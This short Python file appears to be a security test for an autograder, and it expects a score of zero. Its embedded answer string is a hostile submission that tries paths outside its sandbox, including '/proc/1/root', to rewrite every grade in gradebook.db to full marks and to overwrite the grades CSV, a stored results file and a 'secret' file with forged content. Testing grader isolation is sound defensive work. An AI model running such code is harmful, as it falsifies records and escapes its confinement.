"""Writes full marks into the gradebook, the CSV and the stored results, by their paths."""

EXPECT = {"q1": 0}
ANSWERS = {
    "q1_centre": """
import pathlib, sqlite3

for root in ("{{COURSE}}", "..", "../..", "/work", "/proc/1/root{{COURSE}}"):
    try:
        with sqlite3.connect(f"{root}/gradebook.db", timeout=0.1) as book:
            book.execute("update grade set auto_score = 3, manual_score = 3")
    except sqlite3.Error:
        pass
    for name in ("grades.csv", "results/ps0_security/forged.json", "secret"):
        try:
            (pathlib.Path(root) / name).write_text("forged")
        except OSError:
            pass

def centre(X):
    return X
"""
}
